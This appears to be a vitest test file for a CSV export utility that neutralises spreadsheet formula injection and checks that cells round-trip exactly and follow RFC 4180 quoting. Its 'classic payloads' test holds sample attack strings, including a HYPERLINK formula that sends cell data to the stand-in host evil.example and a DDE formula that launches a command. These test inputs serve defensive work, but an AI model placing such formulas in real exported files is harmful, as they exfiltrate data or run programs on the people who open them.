// The one CSV writer: formula-safe cells (OWASP "CSV injection"), exactly reversible for the firm import, numbers kept.
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { neutralizeCell, restoreCell, toCsv } from "~/utils/csv";

const TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"];

describe("neutralizeCell", () => {
  it.each(TRIGGERS.map((c) => [JSON.stringify(c), c]))("prefixes an apostrophe to a cell starting with %s", (_, c) => {
    expect(neutralizeCell(`${c}1+1`)).toBe(`'${c}1+1`);
    expect(restoreCell(neutralizeCell(`${c}1+1`))).toBe(`${c}1+1`);
  });

  it("neutralises the classic payloads", () => {
    expect(neutralizeCell('=HYPERLINK("https://evil.example/?x="&A1,"click")')).toBe(
      `'=HYPERLINK("https://evil.example/?x="&A1,"click")`,
    );
    expect(neutralizeCell("+1")).toBe("'+1");
    expect(neutralizeCell("-2")).toBe("'-2");
    expect(neutralizeCell("@SUM(A1:A9)")).toBe("'@SUM(A1:A9)");
    expect(neutralizeCell("\t=1+1")).toBe("'\t=1+1");
    expect(neutralizeCell("\r=1+1")).toBe("'\r=1+1");
    expect(neutralizeCell("=cmd|' /C calc'!A0")).toBe("'=cmd|' /C calc'!A0");
  });

  it("leaves harmless text alone, including triggers that are not first and a plain leading apostrophe", () => {
    for (const safe of [
      "",
      "株式会社赤羽精密",
      "a=b",
      "1+1",
      "03-1234-5678",
      "'quoted",
      "' =spaced",
      " =1",
      "O'Neil",
    ]) {
      expect(neutralizeCell(safe)).toBe(safe);
      expect(restoreCell(safe)).toBe(safe);
    }
  });

  it("quotes already-quoted values once more, so restoring is exact", () => {
    expect(neutralizeCell("'=1+1")).toBe("''=1+1");
    expect(neutralizeCell("''-2")).toBe("'''-2");
    for (const value of ["'=1+1", "''-2", "'@x", "'''+3", "=x", "'x", "''"]) {
      expect(restoreCell(neutralizeCell(value))).toBe(value);
    }
  });

  it("never lets a written cell start with a trigger", () => {
    const alphabet = ["'", "=", "+", "-", "@", "\t", "\r", "a", " ", "－"];
    for (const a of alphabet)
      for (const b of alphabet)
        for (const c of alphabet) {
          const written = neutralizeCell(a + b + c);
          expect(written[0]).not.toMatch(/[=+\-@\t\r＝＋－＠]/u);
          expect(restoreCell(written)).toBe(a + b + c);
        }
  });
});

describe("toCsv", () => {
  it("writes a BOM and CRLF, quotes as RFC 4180 says, neutralises text and keeps numbers numbers", () => {
    const text = toCsv([
      ["name", "count", "note"],
      ["=1+1", -2, '"quoted", with comma'],
      ["-2", 0, null],
      [undefined, 3.5, "line\nbreak"],
    ]);
    expect(text.startsWith("\uFEFF")).toBe(true);
    expect(text).toBe(
      '\uFEFFname,count,note\r\n\'=1+1,-2,"""quoted"", with comma"\r\n\'-2,0,\r\n,3.5,"line\nbreak"\r\n',
    );
    const records: string[][] = parse(text, { bom: true });
    expect(records[1]).toEqual(["'=1+1", "-2", '"quoted", with comma']);
    expect(records[2]).toEqual(["'-2", "0", ""]);
  });

  it("neutralises a cell whose tab or CR comes first, inside quotes", () => {
    const text = toCsv([["\t=2", "\r=3"]]);
    const [record] = parse(text, { bom: true }) as string[][];
    expect(record).toEqual(["'\t=2", "'\r=3"]);
  });
});
